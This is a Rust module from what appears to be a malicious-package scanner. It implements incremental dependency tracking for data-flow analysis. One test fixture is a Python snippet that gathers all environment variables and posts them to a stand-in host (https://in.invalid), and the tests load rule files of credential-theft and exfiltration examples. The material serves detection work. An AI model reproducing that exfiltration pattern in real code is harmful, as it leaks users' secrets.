//! [`Clock`]: dependency tracking that selects the statements to re-evaluate in the next pass.
//!
//! A statement whose inputs are unchanged has the same result as before. Most statements read nothing that changes
//! later, so that further passes evaluate only a few.

use std::cell::RefCell;

use super::super::program::Program;

/// Number of dependency slots. Names that share a slot only cause additional evaluations.
const SLOTS: usize = 1 << 12;

/// Slot shared by all written files.
const FILES: u16 = 0;

/// Times of evaluation for each statement, and of change for each input.
pub(super) struct Clock {
    /// Logical time: the number of evaluations so far.
    now: usize,
    /// Time of the last change, by slot.
    changed: Vec<usize>,
    /// Slots that the current statement has read.
    seen: RefCell<Vec<u16>>,
    /// Last evaluation by program and statement; `None` before the first.
    looks: Vec<Vec<Option<Look>>>,
}

/// Time of the last evaluation of a statement, and the slots that it read.
#[derive(Clone)]
struct Look {
    at: usize,
    slots: Box<[u16]>,
}

impl Clock {
    pub fn new(programs: &[&Program]) -> Self {
        let looks = programs.iter().map(|program| vec![None; program.steps.len()]).collect();
        Self { now: 0, changed: vec![0; SLOTS], seen: RefCell::default(), looks }
    }

    /// Returns whether a statement has to be evaluated. If so, its evaluation begins.
    pub fn begins(&mut self, program: usize, step: usize) -> bool {
        let look = self.looks.get(program).and_then(|looks| looks.get(step)).and_then(Option::as_ref);
        let when = |slot: &u16| self.changed.get(usize::from(*slot)).copied().unwrap_or(usize::MAX);
        // A change by the statement itself counts as later than its evaluation.
        let is_due = look.is_none_or(|look| look.slots.iter().any(|slot| when(slot) >= look.at));
        if is_due {
            self.now += 1;
            self.seen.borrow_mut().clear();
        }
        is_due
    }

    /// Ends the evaluation that began last.
    pub fn ends(&mut self, program: usize, step: usize) {
        let look = Look { at: self.now, slots: self.seen.borrow().as_slice().into() };
        let place = self.looks.get_mut(program).and_then(|looks| looks.get_mut(step));
        place.into_iter().for_each(|place| *place = Some(look.clone()));
    }

    /// Records that the current statement reads a name.
    pub fn sees(&self, name: &str) {
        self.see(slot(name));
    }

    /// Records that the current statement reads written files.
    pub fn sees_files(&self) {
        self.see(FILES);
    }

    fn see(&self, slot: u16) {
        let mut seen = self.seen.borrow_mut();
        if seen.last() != Some(&slot) {
            seen.push(slot);
        }
    }

    /// Records that the value of a name has changed.
    pub fn changes(&mut self, name: &str) {
        self.change(slot(name));
    }

    /// Records that a written file has changed.
    pub fn changes_files(&mut self) {
        self.change(FILES);
    }

    fn change(&mut self, slot: u16) {
        self.changed.get_mut(usize::from(slot)).into_iter().for_each(|when| *when = self.now);
    }
}

/// Returns the slot of a name, by FNV-1a hash.
fn slot(name: &str) -> u16 {
    let hash = name.bytes().fold(0x811c_9dc5_u32, |hash, byte| (hash ^ u32::from(byte)).wrapping_mul(0x0100_0193));
    ((hash ^ (hash >> 16)) % SLOTS as u32) as u16
}

#[cfg(test)]
mod tests {
    use super::{
        super::{super::language::Language, Analysis, Hosts},
        *,
    };

    /// Host checks that do not know any host.
    const HOSTS: Hosts = Hosts { is_no_registry: |_| true, is_unknown_forge: |_| true, is_unchecked: |_| false };

    /// Script whose functions, names and files are used before they are set, as well as after.
    const TURNED: &str = "import os, requests\n\
        def send(a):\n    post(read(a))\n    post(open(KEPT).read())\n\
        def read(a):\n    b = first(a)\n    return b\n\
        def first(a):\n    open(KEPT, 'w').write(b)\n    return wrap(a)\n\
        def post(a):\n    requests.post(PLACE, data=a)\n\
        def wrap(a):\n    return [a, LATER]\n\
        send(LATER)\nb = LATER\nLATER = dict(os.environ)\nPLACE = BASE + '/x'\nBASE = 'https://in.invalid'\nKEPT = '/tmp/k'\n";

    /// Rule files with scripts as examples.
    const RULES: [&str; 6] = [
        include_str!("../../../scan/rules/collection.toml"),
        include_str!("../../../scan/rules/credential_access.toml"),
        include_str!("../../../scan/rules/exfiltration.toml"),
        include_str!("../../../scan/rules/obfuscation.toml"),
        include_str!("../../../scan/rules/package_content.toml"),
        include_str!("../../../scan/rules/remote_code.toml"),
    ];

    /// Returns the examples of a rule file as pairs of path and text.
    fn examples(file: &str) -> Vec<(String, String)> {
        let file: toml::Table = file.parse().unwrap();
        let list =
            |of: &toml::Value, key: &str| of.get(key).and_then(toml::Value::as_array).cloned().unwrap_or_default();
        let rules = file["rule"].as_array().unwrap();
        let examples = rules.iter().flat_map(|rule| [list(rule, "harmful"), list(rule, "harmless")].concat());
        let text = |of: &toml::Value, key: &str| of[key].as_str().unwrap().to_owned();
        examples.map(|example| (text(&example, "file"), text(&example, "text"))).collect()
    }

    #[test]
    fn skipping_unchanged_statements_keeps_flows() {
        let examples = RULES.iter().flat_map(|file| examples(file));
        let mut flows = 0;
        for (path, text) in examples.chain([("a.py".to_owned(), TURNED.to_owned())]) {
            let extension = path.rsplit_once('.').map_or("", |(_, extension)| extension);
            let Some(program) = Language::of_file(extension, &text).and_then(|language| language.parse(&text, 0))
            else {
                continue;
            };
            // The program is passed twice, so that two programs share functions and files.
            let programs = [&program, &program];
            let all = Analysis { clock: Clock::new(&[]), ..Analysis::new(&programs, HOSTS) }.run();
            assert_eq!(Analysis::new(&programs, HOSTS).run(), all, "{text}");
            flows += all.0.len();
        }
        assert!(flows > 70, "{flows}");
    }

    #[test]
    fn statement_reruns_when_its_inputs_change() {
        let program = Language::Python.parse("a = b\nb = c\n", 0).unwrap();
        let mut clock = Clock::new(&[&program]);
        assert!(clock.begins(0, 0));
        clock.sees("b");
        clock.ends(0, 0);
        assert!(clock.begins(0, 1));
        clock.sees("c");
        clock.changes("b");
        clock.ends(0, 1);
        assert!(clock.begins(0, 0), "b has changed since");
        clock.sees("b");
        clock.ends(0, 0);
        assert!(!clock.begins(0, 0) && !clock.begins(0, 1));
    }
}
